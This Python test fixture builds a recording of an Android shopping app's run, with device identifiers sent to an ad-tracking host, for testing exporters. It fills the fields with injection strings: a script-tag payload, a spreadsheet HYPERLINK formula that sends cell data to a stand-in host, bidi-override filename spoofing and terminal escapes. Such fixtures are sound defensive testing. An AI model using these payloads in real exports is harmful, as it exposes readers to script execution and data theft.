"""A run of an app that puts into every string it controls what hurts some reader of exports."""

from __future__ import annotations

import io
from pathlib import Path

from PIL import Image

from harness.bundle import Bundle
from harness.model import Call, Control, Fact, Flow, Gap, GapKind, Message, Outcome, Screen, Stack, Step

MARKUP = "</script><script>alert(1)</script><!--]]>\"'&"
BIDI = "gpj\u202eexe\u2066\u200f"
CONTROL = "a\x00b\x01\x1b[31mred\x7f\x85\r\nc\ufffe\uffff"
LONE = "\ud83d"
FORMULA = '=HYPERLINK("http://x.example/"&A1,"y")'
LINK = "[go](1) {0} {1}"
ALL = f"{FORMULA}{MARKUP}{BIDI}{CONTROL}{LONE}{LINK}"
WIRE = ALL.replace(LONE, "M\udcfcller")
"""What of it can come in a header: bytes that are no UTF-8, but no half of a surrogate pair."""
LONG = "长" * (1 << 20)
SSID = "Home-4f2a-of-Zhang"
IMEI = "865166023456789"
TOKEN = "eyJhbGciOi.secret.session"
SCENARIO = "first-launch-agree"
T0 = 1_750_000_000_000_000_000


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (82, 146), (230, 240, 250)).save(out, "PNG")
    return out.getvalue()


def write(folder: Path) -> Path:
    """The sealed bundle: 5 calls, 3 exchanges and 2 WebSocket messages, 1 screen, 3 steps, 1 gap; 2 values left."""
    bundle = Bundle.create(folder, "example.shop")
    bundle.append(
        Fact(
            host_ns=T0,
            type="app",
            data={"package": "example.shop", "version": ALL, "version_code": 3, "sha256": "0" * 64, "label": ALL},
        )
    )
    bundle.append(Fact(host_ns=T0, type="device", data={"serial": ALL, "kind": "lab", "model": ALL}))
    bundle.append(
        Fact(
            host_ns=T0,
            type="hook",
            data={
                "method": ALL,
                "process": ALL,
                "status": "failed",
                "why": ALL,
                "kinds": ["imei"],
                "unit": "u",
                "pid": 7,
                "required": True,
            },
        )
    )
    bundle.append(Step(host_ns=T0, end_ns=T0, scenario=SCENARIO, action="scenario_start"))
    screen = bundle.append(
        Screen(
            host_ns=T0 + 1,
            package=ALL,
            kind="policy_consent",
            activity=ALL,
            reason=ALL,
            controls=[Control(text=ALL, role="agree"), Control(text=LONG)],
            screenshot=bundle.put_object(png()),
        )
    )
    stack = bundle.append(
        Stack(host_ns=T0 + 2, pid=7, frames=[f"example.shop.{ALL}.a(Main.java:1)", "example.shop.B.b(B.java:2)"])
    )

    def call(number: int, kind: str, method: str, value: object, arguments: list[object]) -> None:
        bundle.append(
            Call(
                host_ns=T0 + number,
                device_ns=T0 + number,
                pid=7,
                process=ALL,
                tid=1,
                thread=ALL,
                seq=number,
                hook="h",
                kind=kind,
                method=method,
                arguments=arguments,
                value=value,
                outcome=Outcome.VALUE,
                stack=stack.id,
            )
        )

    call(2, "ssid_bssid", "android.net.wifi.WifiInfo.getSSID", SSID, [ALL])
    call(3, "imei", "android.telephony.TelephonyManager.getImei", IMEI, [])
    call(4, "clipboard", "android.content.ClipboardManager.getPrimaryClip", LONG, [LONG])
    call(5, "app_info", ALL, ALL, [ALL, {"k": ALL}])
    call(6, "user_content", "example.shop.Notes.get", {"note": f"my {ALL} 0123456789", "more": [LONE]}, [])

    def said(body: bytes, *headers: list[str]) -> Message:
        return Message(headers=[list(h) for h in headers], body=bundle.put_object(body) if body else None, size=len(body))

    bundle.append(
        Flow(
            host_ns=T0 + 10_000_000,
            end_ns=T0 + 260_000_000,
            protocol="https",
            method="POST",
            host="t.adnimbus.example",
            port=443,
            url=f"https://t.adnimbus.example/e/{IMEI}?ssid={SSID}&q==1+1#{IMEI}",
            status=200,
            version="HTTP/1.1",
            address="203.0.113.7:443",
            request=said(
                f'{{"imei": "{IMEI}", "note": "{MARKUP}"}}'.encode(),
                ["Content-Type", "application/json"],
                ["Cookie", f"sid={TOKEN}"],
                ["Authorization", f"Bearer {TOKEN}"],
                ["X-Device", IMEI],
                ["X-Device", SSID],
            ),
            response=said(
                f"hello {IMEI}".encode(),
                ["Content-Type", "text/plain"],
                ["Set-Cookie", f"sid={TOKEN}"],
                ["Location", f"/next?id={IMEI}"],
            ),
        )
    )
    bundle.append(
        Flow(
            host_ns=T0 + 11_000_000,
            end_ns=T0 + 12_000_000,
            protocol="https",
            method=WIRE,
            host=WIRE,
            port=443,
            url=f"https://h.example/{WIRE}",
            status=None,
            error=ALL,
            request=said(bytes(range(256)), ["X-All", WIRE]),
            response=None,
        )
    )
    opened = bundle.append(
        Flow(
            host_ns=T0 + 13_000_000,
            protocol="https",
            method="GET",
            url="https://w.example/s",
            host="w.example",
            port=443,
            status=101,
            request=said(b""),
            response=said(b""),
        )
    )
    for kind, body in (("text", f"id={IMEI}".encode()), ("binary", bytes(range(255, 0, -1)))):
        bundle.append(
            Flow(
                host_ns=T0 + 14_000_000,
                protocol="websocket",
                phase="message",
                of=opened.id,
                method=kind,
                host="w.example",
                port=443,
                request=said(body),
            )
        )
    bundle.append(
        Step(
            host_ns=T0 + 400_000_000,
            end_ns=T0 + 410_000_000,
            scenario=SCENARIO,
            action="tap",
            screen=screen.id,
            target=ALL,
            opens="after_agree",
            control=Control(text=ALL, role="agree", bounds=(10, 20, 30, 40)),
        )
    )
    bundle.append(Gap(host_ns=T0 + 420_000_000, kind=GapKind.TRAFFIC_NOT_READ, detail=ALL, subject=ALL, from_ns=T0 + 5))
    bundle.append(Step(host_ns=T0 + 900_000_000, end_ns=T0 + 900_000_000, scenario=SCENARIO, action="scenario_end"))
    bundle.seal(complete=True)
    return bundle.path
